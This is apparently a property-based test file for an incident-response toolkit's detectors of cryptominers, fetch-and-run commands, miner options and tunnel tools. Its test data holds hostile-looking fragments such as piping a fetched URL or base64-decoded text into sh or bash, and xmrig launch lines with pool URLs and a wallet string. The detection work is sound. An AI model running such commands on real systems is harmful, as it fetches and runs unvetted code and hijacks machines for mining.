"""The cheap tests in front of the analysis' patterns give what the patterns alone give: a miner's
name (`names_a_miner`), a fetch-and-run (`command_fetches_and_runs`), a miner's options read in
one pass (`miner_options`), a command's IOCs (`iocs_from_argv`) and the configs it starts a
miner with (`launched_configs`), and a tunnel tool's name (`is_tunnel_tool`)."""

from hypothesis import example, given
from hypothesis import strategies as st

from irkit.analysis import iocs
from irkit.analysis.iocs import Ioc, iocs_from_argv, keep, miner_options, option_values
from irkit.analysis.launches import _launched_configs, launched_configs
from irkit.analysis.signals import (
    FETCH_AND_RUN,
    FETCH_PARTS,
    MINER_OPTIONS,
    OPTION_PARTS,
    TUNNEL_TOOL_NAMES,
    TUNNEL_TOOLS,
    command_fetches_and_runs,
    is_tunnel_tool,
)
from irkit.knowledge.miners import (
    MINER_NAMES,
    MINER_PROGRAMS,
    NAME_PARTS,
    PROGRAM_ONLY,
    PROGRAM_ONLY_NAMES,
    names_a_miner,
)
from tests.hostile.fuzzing import fuzz_settings

PIECES = [
    *MINER_PROGRAMS, *PROGRAM_ONLY_NAMES, "XMRig", "T-Rex.exe", "curl", "WGET", "base64 -d",
    "| sh", "| bash", "-O-", "&& chmod +x", "http://198.51.100.7/x", "stratum+tcp://p.example:3333",
    "-o", "--url=p.example:4444", "-u", "--user", "--port", "443", "-p", "--rig-id", "-a", "--coin",
    "rx/0", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wf"
    "n3RVGQBEP3A", "/", "./", " ", "\t", ";", "-", ".", "_", "ſ", "\u212a", "İ", "ı", "é",
]  # fmt: skip
texts = st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=8).map("".join)


def test_every_name_holds_a_part() -> None:
    for name in (*MINER_PROGRAMS, *PROGRAM_ONLY_NAMES):
        assert any(part in name for part in NAME_PARTS), name


@fuzz_settings(500)
@given(texts)
@example("/opt/ſrbminer/ſrbminer --algo x")
@example("/opt/\u212aawpowminer")
@example("./MINER --algo kawpow")
def test_names_a_miner_is_the_patterns(text: str) -> None:
    assert names_a_miner(text) == bool(MINER_NAMES.search(text) or PROGRAM_ONLY.search(text))
    if MINER_OPTIONS.search(text):
        assert any(part in text for part in OPTION_PARTS)


@fuzz_settings(500)
@given(texts)
@example("CURL -s http://x/i | SH")
@example("echo aGk= | base64 --decode | bash")
def test_fetch_and_run_is_the_pattern(text: str) -> None:
    assert command_fetches_and_runs(text) == bool(FETCH_AND_RUN.search(text))
    if FETCH_AND_RUN.search(text) and text.isascii():
        assert any(part in text.lower() for part in FETCH_PARTS)


GROUPS = {
    "port": ("--port",),
    "url": iocs._URL_OPTIONS,
    "user": iocs._USER_OPTIONS,
    "worker": iocs._WORKER_OPTIONS,
    "algo": iocs._ALGO_OPTIONS,
}
argvs = st.lists(st.sampled_from(PIECES) | st.text(max_size=4) | texts, max_size=10)


def reference_iocs(argv: list[str], context: str, source: str) -> list[Ioc]:
    """`iocs_from_argv` as it was: one `option_values` per group, POOL_URL over every text."""
    found: list[Ioc] = []
    ports = [p for p in option_values(argv, ("--port",)) if p.isdigit() and len(p) <= 5]
    for url in option_values(argv, GROUPS["url"]):
        if ports and not iocs._HOSTPORT.match(url) and iocs._HOSTPORT.match(f"{url}:{ports[0]}"):
            url = f"{url}:{ports[0]}"
        found += iocs._pool(url, context, source)
    joined = " ".join(argv)
    for match in iocs.POOL_URL.finditer(joined):
        found += iocs._pool(match.group(0), context, source)
    for user in option_values(argv, GROUPS["user"]):
        found += iocs._user(user, context, source)
    found += [
        Ioc("worker", w, context, source=source) for w in option_values(argv, GROUPS["worker"])
    ]
    found += [
        Ioc("algorithm", a, context, source=source) for a in option_values(argv, GROUPS["algo"])
    ]
    return keep(found + iocs._text_wallets(joined, context, source))


@fuzz_settings(500)
@given(argvs)
@example(["xmrig", "-o", "stratum+tcp://pool.example:3333", "-u", "44AFF.w1", "--coin=monero"])
@example(["miner", "--server", "rvn.example", "--port", "6060", "--user", "RXx.rig", "--pass=x"])
def test_one_pass_options_are_option_values(argv: list[str]) -> None:
    assert miner_options(argv) == {
        kind: option_values(argv, names) for kind, names in GROUPS.items()
    }
    assert iocs_from_argv(argv, "ctx", "persistence") == reference_iocs(argv, "ctx", "persistence")


SHELL_PIECES = [
    "cd /opt/x", "&&", ";", "|", ">", "(", ")", "sh -c ", "'", '"', "\\", "#", "./", "-c",
    "--config=c.json", "config.json", "-a", "rx/0", "--algo", "--coin=x", "-o", "nohup", "sleep 1",
]  # fmt: skip
commands = st.lists(st.sampled_from(PIECES + SHELL_PIECES) | st.text(max_size=3), max_size=10)


@fuzz_settings(500)
@given(commands.map(" ".join) | commands.map("".join))
@example("cd /opt/.x && ./xmrig -c c.json")
@example("sh -c 'cd /opt/x; ./miner --algo kawpow'")
@example("(true)miner --server p.example --port 1")
@example("a>./miner -a rx/0")
def test_configs_past_the_cheap_test(command: str) -> None:
    assert launched_configs(command) == _launched_configs(command, 0)


names = st.sampled_from(
    [*sorted(TUNNEL_TOOL_NAMES), "ssh", "socat2", "\u212a", "ſ", "\n", "-ng", "Ng"]
)


@fuzz_settings(500)
@given(st.lists(names | st.text(max_size=2), max_size=3).map("".join), st.booleans())
@example("FRPC", False)
@example("frpc\n", False)
@example("frpc\n\n", False)
@example("ligolo-NG", False)
def test_tunnel_tool_names_are_the_pattern(word: str, upper: bool) -> None:
    word = word.upper() if upper else word
    assert is_tunnel_tool(word) == bool(TUNNEL_TOOLS.match(word))
